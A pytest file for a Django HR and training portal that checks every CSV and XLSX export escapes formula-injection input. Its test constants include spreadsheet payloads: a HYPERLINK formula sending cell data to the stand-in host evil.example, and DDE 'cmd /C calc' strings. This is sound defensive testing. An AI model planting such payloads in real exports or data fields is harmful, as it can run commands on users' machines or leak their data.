"""Formula injection (CSV/XLSX): names, titles and unit names are typed by people, and a
spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return) as a
formula. Every export of the portal, CSV and XLSX, is fed formula-looking text and must
hand back no cell that a spreadsheet would run."""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal

from django.urls import reverse
from django.utils import timezone

import pytest
from openpyxl import load_workbook

from accounts.roles import Role
from competencies.models import (
    Competency,
    HRScope,
    OrgUnit,
    Position,
    PositionRequirement,
    TrainingRecord,
)
from competencies.services.summaries import summaries_refresh_for_employees
from competencies.spreadsheets import FORMULA_START
from lms.models import CourseCompetency, CourseEvaluation
from tests.api.conftest import api_token_for
from tests.factories.accounts import UserFactory
from tests.factories.competencies import EmployeeFactory
from tests.factories.lms import (
    CourseIndexPageFactory,
    CoursePageFactory,
    EnrolmentFactory,
    QuizPageFactory,
)

pytestmark = pytest.mark.django_db

YEAR = timezone.localdate().year
NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Klik")'
UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
POSITION = "+1+cmd|' /C calc'!A0"
COMPETENCY = "-2+3+cmd|' /C calc'!A0"
COURSE = '\t=HYPERLINK("http://evil.example")'
QUIZ = '\r=HYPERLINK("http://evil.example")'
PAYLOADS = (NAME, UNIT, POSITION, COMPETENCY, COURSE, QUIZ)
NUMBER = re.compile(r"^-?\d+([.,]\d+)?$")

# (id, who signs in, URL name, URL args, query, the payload that must reach the file)
EXPORTS = [
    ("compliance-csv", "hr", "competencies_compliance_report", (),
     {"year": YEAR, "all_employees": "on", "export": "csv"}, NAME),
    ("compliance-xlsx", "hr", "competencies_compliance_report", (),
     {"year": YEAR, "all_employees": "on", "export": "xlsx"}, NAME),
    ("training-needs-csv", "hr", "lms_training_needs", (), {"export": "csv"}, COMPETENCY),
    ("trainer-course-csv", "trainer", "lms:trainer_course_export", ("course",), {}, QUIZ),
    ("open-data-units-csv", None, "public:data_csv", (), {"tahun": YEAR}, UNIT),
    ("open-data-courses-csv", None, "public:data_csv", (),
     {"tahun": YEAR, "tabel": "kursus"}, COURSE),
    ("siasn-admin-csv", "hr", "competencies_record:export_siasn", (), {}, NAME),
    ("siasn-api-csv", "api", "api:siasn-kursus", (), {"format": "csv"}, NAME),
    *[
        (f"import-export-{kind}-{fmt}", "hr", "competencies_imports:export", (kind, fmt), {},
         payload)
        for kind, payload in (("units", UNIT), ("positions", POSITION), ("employees", NAME))
        for fmt in ("csv", "xlsx")
    ],
]  # fmt: skip


@pytest.fixture
def world(home_page):
    """One employee, unit, position, competency, course and quiz, each named with a
    formula; enough around them that every export lists them."""
    hr = UserFactory(roles=[Role.PENGELOLA_SDM])
    trainer = UserFactory(roles=[Role.PELATIH])
    api_user = UserFactory(roles=[Role.LAYANAN_API])
    unit = OrgUnit.add_root(code="EVIL", name=UNIT, kind=OrgUnit.Kind.PERANGKAT_DAERAH)
    competency = Competency.objects.create(code="T.99", name_id=COMPETENCY, kind="teknis")
    position = Position.objects.create(
        code="EVIL.POS", name=POSITION, kind=Position.Kind.PELAKSANA, unit=unit
    )
    PositionRequirement.objects.create(position=position, competency=competency, required_level=3)
    employee = EmployeeFactory(unit=unit, position=position, full_name=NAME)
    EmployeeFactory(unit=unit, position=position)  # a gap the course closes, not enrolled
    index = CourseIndexPageFactory(parent=home_page)
    course = CoursePageFactory(parent=index, title=COURSE, owner=trainer)
    course.trainers.add(trainer)
    course.save()
    QuizPageFactory(parent=course, title=QUIZ)
    CourseCompetency.objects.create(course=course, competency=competency, target_level=3)
    enrolment = EnrolmentFactory(user=employee.user, course=course)
    for _ in range(5):  # enough evaluations that the course's row is published
        other = EnrolmentFactory(course=course)
        CourseEvaluation.objects.create(
            enrolment=other, course=course, content_rating=4, trainer_rating=4,
            usefulness_rating=4, submitted_at=timezone.now(),
        )  # fmt: skip
    TrainingRecord.objects.create(
        employee=employee, source=TrainingRecord.Source.EXTERNAL, title=NAME,
        organiser=NAME, development_type=3, started_on=datetime.date(YEAR, 1, 2),
        finished_on=datetime.date(YEAR, 1, 3), jp=Decimal(4),
        status=TrainingRecord.Status.APPROVED,
    )  # fmt: skip
    summaries_refresh_for_employees(employee_ids=[employee.pk])  # as the services do
    return {"hr": hr, "trainer": trainer, "api": api_user, "course": course, "enrolment": enrolment}


def _cells(response) -> list[tuple[str, object, str]]:
    """(where, value, data type) of every cell of a CSV or XLSX download."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if body[:2] == b"PK":  # an .xlsx is a zip archive
        workbook = load_workbook(io.BytesIO(body))
        return [
            (f"{sheet.title}!{cell.coordinate}", cell.value, cell.data_type)
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
    text = body.decode("utf-8")
    assert text.startswith("\ufeff"), "CSV files start with a byte-order mark for Excel"
    rows = csv.reader(io.StringIO(text[1:], newline=""))
    return [(f"{r}:{c}", value, "s") for r, row in enumerate(rows) for c, value in enumerate(row)]


@pytest.mark.parametrize(
    ("who", "url_name", "args", "query", "payload"),
    [e[1:] for e in EXPORTS],
    ids=[e[0] for e in EXPORTS],
)
def test_no_export_hands_back_a_live_formula(client, world, who, url_name, args, query, payload):
    if who == "api":
        client.defaults["HTTP_AUTHORIZATION"] = f"Token {api_token_for(world['api'])}"
    elif who:
        client.force_login(world[who])
    url = reverse(url_name, args=[world[a].pk if a in world else a for a in args])

    response = client.get(url, query)

    assert response.status_code == 200, url
    cells = _cells(response)
    live = [
        (where, value)
        for where, value, data_type in cells
        if data_type == "f"
        or (isinstance(value, str) and value.startswith(FORMULA_START) and not NUMBER.match(value))
    ]
    assert live == []
    assert any(value == "'" + payload for _w, value, _t in cells), (
        f"the formula-looking text {payload!r} did not reach the export"
    )


def test_the_scoped_hr_manager_exports_are_guarded_too(client, world):
    """The same guard whatever the scope: a unit-scoped manager's compliance XLSX."""
    scoped = UserFactory(roles=[Role.PENGELOLA_SDM])
    HRScope.objects.create(user=scoped, unit=OrgUnit.objects.get(code="EVIL"))
    client.force_login(scoped)

    response = client.get(
        reverse("competencies_compliance_report"),
        {"year": YEAR, "all_employees": "on", "export": "xlsx"},
    )

    cells = _cells(response)
    assert ("'" + NAME) in [value for _w, value, _t in cells]
    assert all(data_type != "f" for _w, _v, data_type in cells)
